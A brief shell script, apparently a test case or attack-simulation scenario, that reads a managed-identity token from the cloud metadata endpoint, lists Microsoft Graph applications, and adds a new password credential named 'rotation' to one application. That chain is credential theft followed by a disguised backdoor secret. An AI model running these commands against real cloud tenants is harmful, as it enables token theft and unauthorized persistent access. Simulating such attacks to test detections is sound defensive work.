#!/bin/sh
. /opt/case/case.sh

t=$(curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fgraph.microsoft.com' | tr -d '\n')
curl -sf -H "Authorization: Bearer $t" http://graph.microsoft.com/v1.0/applications >/dev/null
curl -sf -X POST -H "Authorization: Bearer $t" -H 'Content-Type: application/json' -d '{"passwordCredential":{"displayName":"rotation"}}' http://graph.microsoft.com/v1.0/applications/0001/addPassword >/dev/null
took_place
